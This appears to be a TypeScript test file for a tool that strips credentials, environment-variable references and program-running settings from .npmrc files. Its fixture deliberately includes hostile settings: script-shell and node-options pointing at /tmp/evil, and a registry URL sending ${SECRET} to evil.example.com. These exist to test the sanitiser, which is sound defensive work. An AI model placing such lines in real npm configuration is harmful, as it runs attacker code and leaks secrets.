import assert from 'node:assert/strict';
import { test } from 'node:test';
import { fc } from '../../../domain/testing/fast-check.ts';
import { harmlessNpmrc, secretsIn, usersNpmrc, variablesIn } from './config.ts';

const EXAMPLE = `
; the company's registry
registry = https://user:pass@npm.example.com/
@team:registry=https://npm.example.com/team/
//npm.example.com/:_authToken=\${NPM_TOKEN}
//npm.example.com/:_password="c2VjcmV0LXZhbHVl"
_auth=dXNlcjpwYXNz
legacy-peer-deps=true
script-shell=/tmp/evil
node-options=--require=/tmp/evil
registry=https://evil.example.com/\${SECRET}
prefix=/usr/local
cache=/tmp/x
`;

test('T14 a candidate gets registries and harmless settings, no credentials, variables or programs', () => {
  assert.equal(
    harmlessNpmrc(EXAMPLE),
    'registry=https://npm.example.com/\n@team:registry=https://npm.example.com/team/\nlegacy-peer-deps=true\n',
  );
});

test('T14 whatever an .npmrc says, nothing that authenticates or refers to the environment is kept', () => {
  const line = fc.tuple(
    fc.constantFrom(
      'registry',
      '@a:registry',
      '_auth',
      '_authToken',
      '//h/:_authToken',
      '//h/:username',
      'token',
      'cafile',
      'email',
      'otp',
      'proxy',
      'certfile',
    ),
    fc.constantFrom('=', ' = ', '  =', '= '),
    fc.constantFrom('${TOKEN}', 'https://u:p@h/', 'secret', 'x${A}y', ''),
  );
  fc.assert(
    fc.property(fc.array(line), (lines) => {
      const kept = harmlessNpmrc(lines.map((parts) => parts.join('')).join('\n'));
      assert.doesNotMatch(kept, /\$\{|_auth|token|username|otp|certfile|u:p/i);
      assert.equal(harmlessNpmrc(kept), kept);
    }),
  );
});

test('the base gets what the user has, but for what would lead the installation elsewhere', () => {
  const kept = usersNpmrc(EXAMPLE);
  assert.match(kept, /_authToken=\$\{NPM_TOKEN\}/);
  assert.doesNotMatch(kept, /^prefix|^cache/m);
  assert.deepEqual(variablesIn(kept), ['NPM_TOKEN', 'SECRET']);
});

test('credentials are known, so that they can be kept out of what is shown', () => {
  const secrets = secretsIn(EXAMPLE);
  for (const secret of ['user:pass', 'pass', 'dXNlcjpwYXNz']) assert.ok(secrets.includes(secret), secret);
});
